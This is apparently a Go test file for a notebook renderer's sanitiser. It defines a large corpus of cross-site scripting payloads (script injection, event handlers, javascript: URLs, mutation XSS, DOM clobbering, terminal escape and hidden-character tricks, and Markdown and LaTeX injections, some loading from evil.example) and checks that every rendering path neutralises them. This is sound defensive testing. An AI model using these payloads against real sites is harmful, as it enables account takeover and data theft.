package render

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
)

var testOptions = Options{
	FilesBase: "/notebooks/n1/files/",
	BlobURL:   func(hash, mime string) string { return "/blobs/" + hash },
	Scope:     "c1",
}

// payloads are attacks on whatever turns text into markup. Each goes through
// every surface of this package.
var payloads = []string{
	// scripts
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<script/src=data:,alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script >alert(1)</script >`, `<script
>alert(1)</script>`, `<svg><script>alert(1)</script></svg>`, `<svg><script href="data:,alert(1)"/></svg>`,
	`<math><script>alert(1)</script></math>`, `</script><script>alert(1)</script>`, `<script type=module>import("//evil.example")</script>`,
	`<!--<script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
	`<noscript><p title="</noscript><script>alert(1)</script>">`, `<template><script>alert(1)</script></template>`,
	// handlers
	`<img src=x onerror=alert(1)>`, `<img src=x oneonerrorrror=alert(1)>`, `<img/src/onerror=alert(1)>`, `<img src="x" ONERROR="alert(1)">`,
	`<img src=x onerror
=alert(1)>`, "<img src=x\x0conerror=alert(1)>", "<img src=x onerror\x00=alert(1)>", `<image src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`, `<div onpointerrawupdate=alert(1)>x`,
	`<a href=# onclick=alert(1)>x</a>`, `<p onmouseover="alert(1)">x`, `<b onanimationstart=alert(1) style=animation-name:x>x</b>`,
	`<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`, `<form><button formaction="javascript:alert(1)">x`,
	`<x onclick=alert(1)>x</x>`, `<custom-element onclick=alert(1)>x</custom-element>`, `<img srcset="x 1x" onload=alert(1)>`,
	// URLs
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="java&Tab;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="blob:https://x/1">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="//evil.example/x">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="\\evil.example">x</a>`,
	`<a href="/api/v1/notebooks">x</a>`, `<a href="../../../api">x</a>`, `<a href="%2e%2e/%2e%2e/api">x</a>`, `<a href="a/..%2f..%2fapi">x</a>`,
	`<a href="https://user:pass@evil.example">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="http://evil.example%00.good.example/">x</a>`,
	`<a href="https://gооd.example">x</a>`, `<a href="https://good.example` + "\u202e" + `moc.live//">x</a>`, `<a href="view-source:javascript:1">x</a>`,
	`<a href="https://x" target="_top" rel="opener" ping="https://evil.example" download>x</a>`, `<area href="javascript:alert(1)">`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math href="javascript:alert(1)">x</math>`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<link rel=import href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<img src="http://evil.example/pixel.png">`,
	`<img src="//evil.example/pixel.png">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="data:text/html,x">`,
	`<img src="data:image/png;base64,AAAA" onload=alert(1)>`, `<img src="data:image/png;base64,AA'&quot;&gt;A">`, `<img src="attachment:x.png">`,
	`<img src="/api/v1/notebooks/n1/delete">`, `<img src="a?x=javascript:1#<script>">`, `<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<frameset onload=alert(1)>`,
	`<portal src=//evil.example>`, `<fencedframe></fencedframe>`, `<applet code=x>`,
	// svg and math
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, `<svg><set attributeName=onload to=alert(1)></svg>`,
	`<svg><style>@import "//evil.example/x.css"</style></svg>`, `<svg><image href="http://evil.example/x.png"/></svg>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
	// mutation
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src onerror=alert(1)>">`, `<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>`,
	`<textarea><img title="</textarea><img src onerror=alert(1)>">`, `<title><img title="</title><img src onerror=alert(1)>">`,
	`<select><style></select><img src=x onerror=alert(1)></style>`, `<table><td></table><img src=x onerror=alert(1)><td>`,
	`<p><svg><desc><b></p><img src=x onerror=alert(1)>`, `<a><table><a href=javascript:alert(1)>x`, `<b><p><i></b>x</p></i><img src=x onerror=alert(1)>`,
	`<plaintext><script>alert(1)</script>`, `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`, `<img title="` + "`" + `" src=x onerror=alert(1)>`,
	`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<!DOCTYPE html><script>alert(1)</script>`, `<!-- --!><img src=x onerror=alert(1)> -->`,
	// breaking out
	`</div></div></div></section></main><h1>Approved</h1>`, `</pre></code></td></tr></table></li></ul><img src=x onerror=alert(1)>`,
	`</span></a></summary></details><b>x`, `<li>x<li>y`, `<dd>x<dt>y`, `<tr><td>x`, `</p></p></p>`, `<table><tr><td><table></td></tr></table>`,
	`</body></html><script>alert(1)</script>`, `<h1><h2></h1>x`, `<button><button>x`, `<nobr><nobr>x`, `<option><optgroup>x`, `<ruby><rt><rp>x`,
	// clobbering, restyling, commands
	`<a id=config href=x>y</a><a id=config name=url href=//evil.example>z</a>`, `<img name=getElementById>`, `<form id=document name=cookie>`,
	`<input name=attributes>`, `<div id="__proto__">x</div>`, `<button data-commandlinker-command="run" data-commandlinker-args="{}">x</button>`,
	`<div data-op="approve" data-testid="approve">x</div>`, `<div class="approve btn-primary" role="button" tabindex=0>x</div>`,
	`<style>*{display:none}</style>`, `<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>`, `<p style="width:expression(alert(1))">x`,
	`<div hidden popover=auto id=x>y</div><button popovertarget=x>z`, `<div contenteditable accesskey=x is=x slot=x part=x>y</div>`, `<dialog open>x</dialog>`,
	// terminals
	"\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "\x1b]8;;https://x\"onmouseover=alert(1)\x07x\x1b]8;;\x07", "\x1b]8;;data:text/html,x\x1b\\x\x1b]8;;\x1b\\",
	"\x1b[31m<script>alert(1)</script>\x1b[0m", "\x1b[31\"onload=alert(1)m<b>", "\x1b]0;<script>alert(1)</script>\x07", "\x1bP<img src=x onerror=alert(1)>\x1b\\",
	"\x1b_<img onerror=alert(1)>\x1b\\", "\x1b[38;2;1;2;3;4;5;6<svg/onload=alert(1)>", "\u009b31m<b>\u009d8;;javascript:alert(1)\u009cx", "\x1b]8;;https://x\x07<a href=javascript:1>",
	"a\rb\bc\x07d\x00e\x7ff\x1b", "\x1b[?1049h\x1b[2J\x1b[H<b>", "\x1b[8mhidden\x1b[0m", "\xff\xfe<script>\xc0\xbcscript>", "\xef\xbb\xbf<script>alert(1)</script>",
	// hidden characters
	"\u202Etxt.exe", "if access\u2066 // check\u2069", "\u200bx\u200cy\u200dz\ufeff", "\U000E0041\U000E0042", "a\u2028b\u2029c", "x\ufe0f\ufe0f\ufe0f\U000E0100",
	// Markdown
	`[x](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](java&#115;cript:alert(1))`, "[x](javascript\n:alert(1))", `[x](JAVASCRIPT&colon;alert(1))`, `<javascript:alert(1)>`,
	`[x]: javascript:alert(1)

[x]`, `![x](javascript:alert(1))`, `![x](http://evil.example/x.png)`, `![x" onerror="alert(1)](a.png)`, `![x](a.png"onerror="alert(1))`, `[x](https://a.example "t\" onmouseover=alert(1)")`,
	`[x](vbscript:x)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `<https://x.example/"onmouseover="alert(1)>`, "```\"><script>alert(1)</script>\nx\n```", "# <img src=x onerror=alert(1)>", "# x {#config onclick=alert(1)}",
	`[^1]: <script>alert(1)</script>

x[^1]`, `| <script>alert(1)</script> | [x](javascript:1) |
|---|---|
| <img src=x onerror=1> | y |`, `- [x](javascript:1)
  - </li></ul><script>alert(1)</script>`, `www.evil.example/"onclick=alert(1)`, "`</code><script>alert(1)</script>`", `~~<script>alert(1)</script>~~`, `<a href="x" title='"><script>alert(1)</script>'>y</a>`,
	// LaTeX
	`$\href{javascript:alert(1)}{x}$`, `$\htmlData{op=approve}{x}$`, `$\htmlId{config}{x}$`, `$</span><script>alert(1)</script>$`, `$$\includegraphics{http://evil.example/x}$$`,
	`\begin{x}</span><img src=x onerror=alert(1)>\end{x}`, `$\url{javascript:alert(1)}$`, `$\def\x{\x\x}\x$`, `$$<svg onload=alert(1)>$$`,
	// JSON
	`{"<script>alert(1)</script>":"</summary></details><img src=x onerror=alert(1)>"}`, `["\u202e<b>","\u0000"]`, `{"__proto__":{"x":1}}`, `{"a":"\u003cscript\u003e"}`,
}

// surfaces are the ways a text reaches the page.
var surfaces = map[string]func(string) HTML{
	"ansi":                ANSI,
	"text":                Text,
	"visible":             Visible,
	"title":               func(s string) HTML { return HTML(`<p title="` + attr(s) + `">x</p>`) },
	"markdown":            func(s string) HTML { return Markdown(s, testOptions) },
	"markdown link":       func(s string) HTML { return Markdown("[x]("+s+")", testOptions) },
	"markdown angle link": func(s string) HTML { return Markdown("[x](<"+s+">)", testOptions) },
	"markdown image":      func(s string) HTML { return Markdown("!["+s+"]("+s+")", testOptions) },
	"markdown title":      func(s string) HTML { return Markdown("[x](https://a.example \""+s+"\")", testOptions) },
	"markdown heading":    func(s string) HTML { return Markdown("# "+s+"\n\n[y](#"+s+")", testOptions) },
	"markdown fence":      func(s string) HTML { return Markdown("```"+s+"\n"+s+"\n```", testOptions) },
	"markdown item":       func(s string) HTML { return Markdown("- a\n  > 1. "+s+"\n", testOptions) },
	"markdown cell":       func(s string) HTML { return Markdown("| a |\n|---|\n| "+s+" |", testOptions) },
	"markdown math":       func(s string) HTML { return Markdown("$"+s+"$ $$"+s+"$$", testOptions) },
	"markdown footnote":   func(s string) HTML { return Markdown("x[^"+s+"]\n\n[^"+s+"]: "+s, testOptions) },
	"html sanitised": func(s string) HTML {
		h, ok := sanitize(s, fromOutput, testOptions)
		if !ok {
			return plainBlock(s)
		}
		return h
	},
	"html": func(s string) HTML { return testOptions.Render(Bundle{"text/html": {Text: s}}).HTML },
	"html cell": func(s string) HTML {
		return testOptions.Render(Bundle{"text/html": {Text: "<table><tr><td>" + s}}).HTML
	},
	"html attr": func(s string) HTML {
		return testOptions.Render(Bundle{"text/html": {Text: `<p title="` + s + `">x`}}).HTML
	},
	"html href": func(s string) HTML {
		return testOptions.Render(Bundle{"text/html": {Text: `<a href='` + s + `'>x`}}).HTML
	},
	"html src": func(s string) HTML {
		return testOptions.Render(Bundle{"text/html": {Text: `<img src="` + s + `">`}}).HTML
	},
	"svg": func(s string) HTML { return testOptions.Render(Bundle{"image/svg+xml": {Text: s}}).HTML },
	"png": func(s string) HTML { return testOptions.Render(Bundle{"image/png": {Text: s}}).HTML },
	"png alt": func(s string) HTML {
		return testOptions.Render(Bundle{"image/png": {Text: "AAAA"}, "text/plain": {Text: s}}).HTML
	},
	"latex":      func(s string) HTML { return testOptions.Render(Bundle{"text/latex": {Text: s}}).HTML },
	"bundle md":  func(s string) HTML { return testOptions.Render(Bundle{"text/markdown": {Text: s}}).HTML },
	"javascript": func(s string) HTML { return testOptions.Render(Bundle{"application/javascript": {Text: s}}).HTML },
	"plotly": func(s string) HTML {
		return testOptions.Render(Bundle{plotlyType: {Text: quoted(s)}, "text/html": {Text: s}}).HTML
	},
	"json":        func(s string) HTML { return JSON(s) },
	"json string": func(s string) HTML { return JSON("[" + quoted(s) + "]") },
	"json key":    func(s string) HTML { return JSON("{" + quoted(s) + ":[{" + quoted(s) + ":1}]}") },
	"bundle json": func(s string) HTML { return testOptions.Render(Bundle{"application/json": {Text: s}}).HTML },
	"mime":        func(s string) HTML { return testOptions.Render(Bundle{s: {Text: s}}).HTML },
	"mime blob":   func(s string) HTML { return testOptions.Render(Bundle{s: {Blob: strings.Repeat("a", 64)}}).HTML },
	"blob":        func(s string) HTML { return testOptions.Render(Bundle{"image/png": {Blob: s}}).HTML },
	"ename":       func(s string) HTML { return Traceback(s, "x", nil) },
	"evalue":      func(s string) HTML { return Traceback("E", s, nil) },
	"traceback":   func(s string) HTML { return Traceback(s, s, []string{s, s}) },
	"code python": func(s string) HTML { return Code(s, "python") },
	"code html":   func(s string) HTML { return Code(s, "html") },
	"code md":     func(s string) HTML { return Code(s, "markdown") },
	"code other":  func(s string) HTML { return Code(s, s) },
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestXSSCorpus(t *testing.T) {
	t.Parallel()
	if len(payloads) < 120 {
		t.Fatalf("the corpus has %d payloads, want at least 120", len(payloads))
	}
	for name, surface := range surfaces {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, p := range payloads {
				h := surface(p)
				if why := unsafe(h, testOptions.FilesBase); why != "" {
					t.Errorf("payload %q: %s\n%s", p, why, h)
				}
			}
		})
	}
}

// TestXSSTwice sends what was rendered through the renderers again, as an
// import of an export would (mutation XSS).
func TestXSSTwice(t *testing.T) {
	t.Parallel()
	for _, p := range payloads {
		for _, name := range []string{"html sanitised", "markdown", "markdown item", "svg"} {
			first := surfaces[name](p)
			second, ok := sanitize(string(first), fromOutput, testOptions)
			if !ok {
				t.Errorf("payload %q through %s cannot be parsed again", p, name)
				continue
			}
			if why := unsafe(second, testOptions.FilesBase); why != "" {
				t.Errorf("payload %q through %s and again: %s\n%s", p, name, why, second)
			}
		}
	}
}

// TestOracleSees proves that the oracle is not blind.
func TestOracleSees(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{
		`<script>1</script>`, `<img src="data:image/png;base64,AAAA" onload="x">`, `<a href="javascript:1" rel="noopener noreferrer nofollow">x</a>`,
		`<p style="x">y</p>`, `<p id="config">x</p>`, `<a name="x">y</a>`, `</div><p>x</p>`, `<iframe></iframe>`, `<svg></svg>`, `<p data-x="1">y</p>`,
		`<img src="http://evil.example/x">`, `<a href="https://a.example">x</a>`, "\u202e", "\x01", `<p class="approve">x</p>`, `<!-- x -->`, `<input>`,
		`<a href="/notebooks/n1/files/../x" rel="noopener noreferrer nofollow">x</a>`, `<img src="data:image/svg+xml;base64,AAAA">`, `<li>x</li>`,
	} {
		if unsafe(HTML(bad), testOptions.FilesBase) == "" {
			t.Errorf("the oracle accepts %q", bad)
		}
	}
	if why := unsafe(`<p class="note">x</p><ul><li>y</li></ul>`, ""); why != "" {
		t.Errorf("the oracle refuses harmless markup: %s", why)
	}
}

func TestSVGIsOnlyEverAnImage(t *testing.T) {
	t.Parallel()
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`
	out := testOptions.Render(Bundle{"image/svg+xml": {Text: svg}})
	want := `src="data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString([]byte(svg)) + `"`
	if out.Tier != TierPlain || !strings.HasPrefix(string(out.HTML), "<img ") || !strings.Contains(string(out.HTML), strings.ReplaceAll(want, "+xml", "+xml")) {
		t.Errorf("got tier %d: %s", out.Tier, out.HTML)
	}
}
